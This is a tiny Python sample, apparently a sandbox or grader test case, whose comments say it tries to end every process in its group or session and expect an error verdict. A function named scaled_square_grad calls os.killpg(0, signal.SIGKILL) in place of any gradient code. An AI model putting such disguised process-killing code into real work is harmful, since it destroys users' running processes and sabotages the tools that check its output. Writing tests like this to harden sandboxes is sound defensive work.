# tries: to end all processes that it can reach as its group or its session
# verdict: error

import os
import signal


def scaled_square_grad(x, c):
    os.killpg(0, signal.SIGKILL)
